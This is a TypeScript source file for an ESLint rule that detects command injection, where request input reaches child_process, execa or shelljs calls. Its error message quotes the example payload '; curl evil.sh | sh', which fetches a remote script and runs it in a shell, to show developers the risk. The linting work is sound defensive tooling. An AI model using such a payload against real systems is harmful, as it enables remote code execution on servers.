import {
  AST_NODE_TYPES,
  getOrigin,
  getRequestSourceLabel,
  getStaticPropertyName,
  getTaint,
  isInTestFile,
  type Origin,
  type TSESLint,
  type TSESTree,
  unwrapExpression,
} from '@prodready/eslint-rule-kit';

import { createRule } from '../create-rule.js';

export type Options = [];
export type MessageIds = 'commandInjection';

/** How a process API treats its first argument. */
type Mode = 'shell' | 'program' | 'split';

interface ProcessApi {
  readonly name: string;
  readonly mode: Mode;
}

const CHILD_PROCESS: Readonly<Record<string, Mode>> = {
  exec: 'shell',
  execSync: 'shell',
  spawn: 'program',
  spawnSync: 'program',
  execFile: 'program',
  execFileSync: 'program',
};
const EXECA: Readonly<Record<string, Mode>> = {
  execa: 'program',
  execaSync: 'program',
  execaCommand: 'split',
  execaCommandSync: 'split',
};

export default createRule<Options, MessageIds>({
  name: 'no-command-injection',
  meta: {
    type: 'problem',
    docs: {
      description: 'Disallow request input in shell commands and spawned program names',
      recommended: 'recommended',
    },
    schema: [],
    messages: {
      commandInjection:
        '`{{callee}}` runs a command built from {{input}}, so a request containing `; curl evil.sh | sh` runs any program on the server. Run a fixed program with the input as a separate argument, without a shell, and check it against an allow-list.',
    },
  },
  create(context) {
    if (isInTestFile(context) || !/child_process|execa|shelljs/.test(context.sourceCode.text)) return {};

    function check(node: TSESTree.Node | undefined, callee: string): void {
      if (!node || node.type === AST_NODE_TYPES.SpreadElement) return;
      const taint = getTaint(context, node, { sink: 'command' });
      if (!taint) return;
      context.report({ node, messageId: 'commandInjection', data: { callee, input: getRequestSourceLabel(taint.kind) } });
    }

    return {
      CallExpression(node): void {
        if (node.arguments.length === 0 || !isCandidateCallee(node.callee)) return;
        const api = getProcessApi(context, node.callee);
        if (!api) return;
        const [command, second] = node.arguments;
        // `exec(cmd)` and `execaCommand(cmd)` parse the string; a program name picks what runs.
        check(command, api.name);
        if (api.mode !== 'program' || !hasShellOption(node)) return;
        // With `shell: true` the arguments are joined into one shell command line.
        const args = second && unwrapExpression(second);
        if (args?.type === AST_NODE_TYPES.ArrayExpression) {
          for (const element of args.elements) if (element) check(element, api.name);
        } else if (args && args.type !== AST_NODE_TYPES.ObjectExpression) {
          check(args, api.name);
        }
      },
    };
  },
});

type Context = Readonly<TSESLint.RuleContext<string, readonly unknown[]>>;

/** Member calls can only be a process API under its own name (`cp.exec`, `shell.exec`); identifiers may be aliases. */
function isCandidateCallee(callee: TSESTree.Node): boolean {
  const node = unwrapExpression(callee);
  if (node.type === AST_NODE_TYPES.Identifier) return true;
  if (node.type !== AST_NODE_TYPES.MemberExpression) return false;
  const name = getStaticPropertyName(node);
  return name !== undefined && (Object.hasOwn(CHILD_PROCESS, name) || Object.hasOwn(EXECA, name) || name === 'exec');
}

/** `exec`/`spawn`/… from `child_process`, `util.promisify(exec)`, execa and `shelljs.exec`, by origin. */
function getProcessApi(context: Context, callee: TSESTree.Node): ProcessApi | undefined {
  const origin = getOrigin(context, callee);
  if (!origin) return undefined;
  const direct = getApiFromOrigin(origin);
  if (direct) return direct;
  // `const run = promisify(exec)`
  if (origin.source !== 'util' || origin.path.join('.') !== 'promisify.()') return undefined;
  const wrapper = getPromisifyCall(context, callee);
  const wrapped = wrapper?.arguments[0] && getOrigin(context, wrapper.arguments[0]);
  return wrapped ? getApiFromOrigin(wrapped) : undefined;
}

function getApiFromOrigin(origin: Origin): ProcessApi | undefined {
  const [name, ...rest] = origin.path;
  if (name === undefined || rest.length > 0) return undefined;
  if (origin.source === 'child_process' && Object.hasOwn(CHILD_PROCESS, name)) {
    return { name, mode: CHILD_PROCESS[name] as Mode };
  }
  if (origin.source === 'execa' && Object.hasOwn(EXECA, name)) return { name, mode: EXECA[name] as Mode };
  if (origin.source === 'shelljs' && name === 'exec') return { name: 'shell.exec', mode: 'shell' };
  return undefined;
}

function getPromisifyCall(context: Context, callee: TSESTree.Node): TSESTree.CallExpression | undefined {
  const node = unwrapExpression(callee);
  if (node.type !== AST_NODE_TYPES.Identifier) return undefined;
  let scope: ReturnType<Context['sourceCode']['getScope']> | null = context.sourceCode.getScope(node);
  while (scope && !scope.set.has(node.name)) scope = scope.upper;
  const def = scope?.set.get(node.name)?.defs[0];
  const init = def?.type === 'Variable' && def.node.init ? unwrapExpression(def.node.init) : undefined;
  return init?.type === AST_NODE_TYPES.CallExpression ? init : undefined;
}

/** `{ shell: true }` or `{ shell: '/bin/bash' }` in the call's options object. */
function hasShellOption(call: TSESTree.CallExpression): boolean {
  const options = call.arguments.at(-1);
  if (options?.type !== AST_NODE_TYPES.ObjectExpression) return false;
  return options.properties.some(
    (property) =>
      property.type === AST_NODE_TYPES.Property &&
      getStaticPropertyName(property) === 'shell' &&
      !(property.value.type === AST_NODE_TYPES.Literal && !property.value.value),
  );
}
